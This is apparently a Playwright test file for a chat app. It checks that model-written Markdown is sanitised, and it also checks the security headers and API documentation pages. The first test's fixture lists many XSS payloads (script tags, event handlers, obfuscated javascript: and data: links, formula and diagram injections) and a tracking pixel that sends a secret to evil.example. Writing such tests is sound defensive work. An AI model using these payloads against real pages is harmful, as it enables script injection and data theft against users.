import { breaches, overflow } from './support/inspect'
import { expect, test } from './support/test'

/** Hostile output of a model. Any script that runs sets window.stolen. */
const hostile = [
  '# 見出し',
  '<script>window.stolen = true</script>',
  '<img src="x" onerror="window.stolen = true">',
  '<svg onload="window.stolen = true"><script>window.stolen = true</script></svg>',
  '<a href="javascript:window.stolen = true">生のリンク</a>',
  '<iframe srcdoc="<script>parent.stolen = true</script>"></iframe>',
  '<style>body { display: none }</style>',
  '<form action="https://evil.example"><button>送る</button></form>',
  '[危ないリンク](javascript:window.stolen=true)',
  '[隠れたリンク](&#106;avascript:window.stolen=true)',
  '[改行のリンク](<java\nscript:window.stolen=true>)',
  '[データのリンク](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuc3RvbGVuPXRydWU8L3NjcmlwdD4=)',
  '![絵](https://evil.example/pixel.png?secret=1)',
  '![絵](javascript:window.stolen=true)',
  '<https://example.com/"onmouseover="window.stolen=true>',
  '[よいリンク](https://example.com/ok)',
  '$\\href{javascript:window.stolen=true}{式のリンク}$ と $\\htmlData{x=y}{z}$ と $\\url{javascript:window.stolen=true}$',
  '```html\n<img src=x onerror="window.stolen = true">\n```',
  '```mermaid\ngraph TD; A["<img src=x onerror=window.stolen=true>"]\n```',
  '| 列 |\n| --- |\n| <b onclick="window.stolen=true">太字</b> |',
  '<details open ontoggle="window.stolen = true"><summary onclick="window.stolen = true">題</summary></details>',
  '<mark onmouseover="window.stolen = true" style="color: red">印</mark> <u>下線</u>',
  '末尾の段落です。',
].join('\n\n')

test('R68: Markdown from a model runs no script and contacts no other host', async ({
  chat,
  page,
  context,
  baseURL,
  model,
  question,
}) => {
  const elsewhere: string[] = []
  context.on('request', (request) => {
    // A blob belongs to this page or to the diagram frame; it has no host.
    const url = request.url()
    if (!url.startsWith('blob:') && !url.startsWith(baseURL ?? '-')) elsewhere.push(url)
  })
  model.script(question, {
    text: hostile,
    tokens_per_second: 300,
    title: '<img src=x onerror=window.stolen=true>',
  })
  await chat.open()
  await chat.ask(`${question}\n<img src=x onerror="window.stolen = true">`)
  await expect(chat.answer).toContainText('末尾の段落です。')
  await chat.finished()

  const check = async () => {
    const body = chat.turns
    await expect(
      body.locator(
        // A diagram is a picture that the app has created from text rendered in its frame.
        'script, iframe, form, style, img:not([src^="blob:"]), object, embed, ' +
          '[onerror], [onclick], [onload], [ontoggle], [onmouseover]',
      ),
    ).toHaveCount(0)
    const targets = await body
      .locator('a')
      .evaluateAll((links) => links.map((link) => link.getAttribute('href')))
    for (const target of targets) expect(target ?? '#').toMatch(/^(https?:|mailto:|#)/)
    for (const link of await body.locator('a').all()) await link.hover()
    expect(await page.evaluate(() => window.stolen)).toBeUndefined()
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
  }
  await check()
  const good = chat.answer.getByRole('link', { name: 'よいリンク' })
  await expect(good).toHaveAttribute('href', 'https://example.com/ok')
  await expect(good).toHaveAttribute('rel', /noopener|noreferrer/)
  await page.reload()
  await chat.finished()
  await check()
  expect(elsewhere).toEqual([])
})

test('every page has a strict policy, and cannot be framed', async ({ request }) => {
  for (const path of ['/', '/home/skill', '/docs/api', '/nonsense']) {
    const { 'content-security-policy': policy = '', ...headers } = (await request.get(path)).headers()
    expect(policy, path).toMatch(/default-src '(self|none)'/)
    expect(policy, path).not.toMatch(/unsafe-inline|unsafe-eval|\*/)
    expect(policy, path).toContain("frame-ancestors 'none'")
    expect(headers['x-content-type-options'], path).toBe('nosniff')
  }
})

test('the API reference has contents, operations and schemas, on phones too', async ({ page }) => {
  const contents = page.getByRole('navigation', { name: 'Contents' })
  const messages = contents.locator('summary').filter({ hasText: /^\s*Messages/ })
  await page.goto('/docs/api')
  await messages.click()
  await contents.getByRole('link', { name: /Ask, and watch the answer/ }).click()
  const operation = page.getByRole('region', { name: 'Ask, and watch the answer being written' })
  await expect(operation).toBeInViewport()
  await expect(operation).toContainText('POST/v1/message/stream')
  await operation.getByRole('link', { name: 'MessageRequest' }).click()
  await expect(page.getByRole('region', { name: 'MessageRequest', exact: true })).toBeInViewport()
  await page.setViewportSize({ width: 390, height: 844 })
  expect(await overflow(page)).toEqual({ by: 0, what: [] })
  await page.getByText('Contents', { exact: true }).click()
  await expect(messages).toBeVisible()
  await page.setViewportSize({ width: 1280, height: 800 })

  // All operations and schemas have the same structure, so two of them are enough for the accessibility rules.
  await page.evaluate(() => {
    for (const section of document.querySelectorAll('section:not(#streamMessage, #schema-Message)'))
      section.remove()
  })
  for (const colorScheme of ['light', 'dark'] as const) {
    await page.emulateMedia({ colorScheme })
    expect(await breaches(page), colorScheme).toEqual([])
  }
})
